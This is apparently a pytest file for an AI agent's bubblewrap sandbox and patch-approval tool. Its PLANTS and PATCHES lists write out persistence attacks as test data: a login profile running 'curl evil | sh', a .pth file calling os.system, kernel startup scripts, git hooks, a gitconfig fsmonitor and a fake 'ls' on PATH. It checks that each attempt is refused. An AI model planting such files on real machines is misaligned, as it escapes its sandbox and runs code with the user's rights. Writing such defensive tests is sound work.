"""Planting code that runs later, outside the sandbox, tried as a hostile model would: a startup
file the person's next shell, Python or kernel reads (made new in a home folder the sandbox may
write), a program in a folder on ``PATH``, code in a Python environment or a repository's hooks
reached by a patch (``apply_patch`` writes in-process, not in the sandbox). What the sandbox keeps
read-only, a patch writes only with a person's approval. Real bwrap, real files."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jupyter_agents import ApplyPatchTool, RunConfig
from jupyter_agents.runtime.sandbox import SandboxPolicy, run_sandboxed
from jupyter_agents.runtime.tools.patch.apply_patch import APPLY_PATCH

from ..prerequisites import needs_bwrap

pytestmark = pytest.mark.timeout(90)


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A home folder (outside /tmp, which the sandbox makes private) that is the workspace, as
    when Jupyter starts in the home folder: startup files, a folder, a file."""
    folder = Path.home() / f"ja-home-{uuid.uuid4().hex}"
    (folder / "Documents").mkdir(parents=True)
    (folder / "notes.txt").write_text("mine\n")
    (folder / ".bashrc").write_text("# rc\n")
    (folder / ".config").mkdir()
    monkeypatch.setenv("HOME", str(folder))
    yield folder
    for path in sorted(folder.rglob("*"), reverse=True):
        path.unlink() if not path.is_dir() or path.is_symlink() else path.rmdir()
    folder.rmdir()


# Each command tries to leave a file that runs with the person's full rights later: (command,
# what it would leave, who would run it).
PLANTS = [
    ("echo 'curl evil | sh' > .bash_profile", ".bash_profile", "the next login shell"),
    ("echo evil > .profile", ".profile", "the next login shell"),
    (
        "mkdir -p .local/lib/python3.12/site-packages && "
        "echo 'import os; os.system(\"x\")' > .local/lib/python3.12/site-packages/evil.pth",
        ".local",
        "every Python the person starts (the user site)",
    ),
    (
        "mkdir -p .ipython/profile_default/startup && echo 'import os' > "
        ".ipython/profile_default/startup/00-evil.py",
        ".ipython",
        "the person's next kernel",
    ),
    (
        "mkdir -p .jupyter && echo 'c = 1' > .jupyter/jupyter_server_config.py",
        ".jupyter",
        "Jupyter",
    ),
    ("printf '[core]\\n\\tfsmonitor = evil\\n' > .gitconfig", ".gitconfig", "the next git status"),
    ("echo x > .config/autostart.desktop", ".config/autostart.desktop", "the desktop session"),
    ("mkdir bin && printf '#!/bin/sh\\nevil\\n' > bin/ls", "bin", "~/.profile puts ~/bin on PATH"),
    ("mv notes.txt .bash_login", ".bash_login", "the next login shell"),
]


@needs_bwrap
@pytest.mark.parametrize(("attack", "made", "runs_it"), PLANTS, ids=[p[1] for p in PLANTS])
async def test_a_command_cannot_plant_a_startup_file_in_a_home_it_may_write(
    home: Path, attack: str, made: str, runs_it: str
) -> None:
    result = await run_sandboxed(attack, SandboxPolicy("workspace-write", home))
    assert result.exit_code != 0, f"{attack} ({runs_it})"
    assert not (home / made).exists(), runs_it
    assert (home / "notes.txt").read_text() == "mine\n"


@needs_bwrap
async def test_the_rest_of_a_home_workspace_stays_writable(home: Path) -> None:
    policy = SandboxPolicy("workspace-write", home)
    for work in (
        "echo ok > Documents/report.md",
        "mkdir -p Documents/plots/2026 && echo 1 > Documents/plots/2026/a.csv",
        "echo more >> notes.txt",
        "rm Documents/report.md && echo again > Documents/report.md",
    ):
        result = await run_sandboxed(work, policy)
        assert result.exit_code == 0, f"{work}: {result.stderr}"
    assert (home / "notes.txt").read_text() == "mine\nmore\n"
    assert (home / "Documents" / "plots" / "2026" / "a.csv").read_text() == "1\n"
    assert (home / ".bashrc").read_text() == "# rc\n"
    # a new entry at the top of the home folder is refused: it could be ~/bin, which the next
    # login shell puts on PATH (the error says read-only; folders inside take new files)
    refused = await run_sandboxed("echo x > new-at-top.txt", policy)
    assert refused.exit_code != 0 and "Read-only" in refused.stderr
    assert not (home / "new-at-top.txt").exists()


@needs_bwrap
async def test_a_repository_inside_a_dot_folder_does_not_open_that_folder(home: Path) -> None:
    # the folders leading to a nested repository are bound onto themselves (so it cannot be
    # moved away): never writable again when they are dot-entries of the home folder
    (home / ".config" / "tool" / ".git").mkdir(parents=True)
    policy = SandboxPolicy("workspace-write", home)
    for attack in ("echo x > .config/evil.desktop", "echo x > .config/tool/evil.py"):
        assert (await run_sandboxed(attack, policy)).exit_code != 0, attack
    assert sorted(p.name for p in (home / ".config").rglob("*")) == [".git", "tool"]


@needs_bwrap
async def test_a_folder_on_path_inside_the_workspace_stays_read_only(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws = Path.home() / f"ja-ws-{uuid.uuid4().hex}"
    tools = ws / "tools" / "bin"
    tools.mkdir(parents=True)
    try:
        monkeypatch.setenv("PATH", f"{tools}:{os.environ['PATH']}")
        policy = SandboxPolicy("workspace-write", ws)
        plant = "printf '#!/bin/sh\\nevil\\n' > tools/bin/ls && chmod +x tools/bin/ls"
        result = await run_sandboxed(plant, policy)
        assert result.exit_code != 0 and not (tools / "ls").exists()
        assert (await run_sandboxed("echo ok > tools/readme.txt", policy)).exit_code == 0
    finally:
        for path in sorted(ws.rglob("*"), reverse=True):
            path.unlink() if not path.is_dir() or path.is_symlink() else path.rmdir()
        ws.rmdir()


# -- patches: written in-process, so they ask wherever the sandbox would not let a command write --


@pytest.fixture
def repos(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace with a venv of the running Python, a worktree whose git folders live under
    names that are not ``.git``, and a folder on PATH."""
    ws = tmp_path / "ws"
    site = ws / ".venv" / "lib" / "python3" / "site-packages"
    site.mkdir(parents=True)
    monkeypatch.setattr(sys, "prefix", str(ws / ".venv"))
    monkeypatch.setattr(sys, "exec_prefix", str(ws / ".venv"))
    (ws / "store" / "main.git" / "hooks").mkdir(parents=True)
    (ws / "store" / "wt-admin" / "hooks").mkdir(parents=True)
    (ws / "store" / "wt-admin" / "commondir").write_text("../main.git\n")
    (ws / "wt").mkdir()
    (ws / "wt" / ".git").write_text("gitdir: ../store/wt-admin\n")
    (ws / "scripts").mkdir()
    monkeypatch.setenv("PATH", f"{ws / 'scripts'}:{os.environ['PATH']}")
    return ws


PATCHES = [
    (".venv/lib/python3/site-packages/sitecustomize.py", "a Python environment"),
    ("store/wt-admin/hooks/post-checkout", "a worktree's git folder"),
    ("store/main.git/hooks/pre-commit", "the repository a worktree shares"),
    ("scripts/ls", "a folder on PATH"),
]


def _config(workspace: Path, approval: str = "on-request") -> RunConfig:
    mode = "workspace-write"
    return RunConfig(approval_policy=approval, sandbox_mode=mode, workspace=workspace)  # type: ignore[arg-type]


def _add(path: str) -> dict[str, Any]:
    return {"operations": [{"type": "create_file", "path": path, "diff": "+evil\n"}]}


@pytest.mark.parametrize(("path", "place"), PATCHES, ids=[p[1] for p in PATCHES])
def test_a_patch_asks_where_the_sandbox_keeps_files_read_only(
    repos: Path, path: str, place: str
) -> None:
    tool = ApplyPatchTool()
    for approval, decision in (("on-request", "ask"), ("on-failure", "ask"), ("never", "refuse")):
        verdict = tool.verdict(_add(path), _config(repos, approval))
        assert (verdict.decision, verdict.confined) == (decision, False), (approval, place)
        assert "read-only" in verdict.reason
    assert (
        tool.verdict(_add("src/new.py"), _config(repos)).decision == "write"
    )  # the rest is writable


@pytest.mark.parametrize(
    ("path", "decision"),
    [
        (".bash_profile", "ask"),
        (".local/lib/python3.12/site-packages/evil.pth", "ask"),
        (".ipython/profile_default/startup/00.py", "ask"),
        (".bashrc", "ask"),
        ("bin/ls", "ask"),
        ("new-at-top.txt", "ask"),
        ("notes.txt", "write"),
        ("Documents/report.md", "write"),
        ("Documents/new/deeper.md", "write"),
    ],
)
def test_a_patch_in_a_home_workspace_asks_as_the_sandbox_would_refuse(
    home: Path, path: str, decision: str
) -> None:
    assert ApplyPatchTool().verdict(_add(path), _config(home)).decision == decision


def test_an_always_for_patches_does_not_cover_one_into_a_read_only_place(repos: Path) -> None:
    config, tool = _config(repos), ApplyPatchTool()
    for path, _ in PATCHES:
        assert APPLY_PATCH.decided_alone(json.dumps(_add(path)), tool, config), path
    assert not APPLY_PATCH.decided_alone(json.dumps(_add("src/new.py")), tool, config)


def test_the_attacks_would_work_without_the_sandbox(home: Path) -> None:
    """The commands above are real attacks: run unconfined, each leaves its file."""
    for attack, made, _ in PLANTS:
        subprocess.run(["sh", "-c", attack], cwd=home, check=True)
        assert (home / made).exists(), attack
        subprocess.run(["sh", "-c", f"rm -rf {shlex.quote(made)}"], cwd=home, check=True)
        if made == ".bash_login":
            (home / "notes.txt").write_text("mine\n")
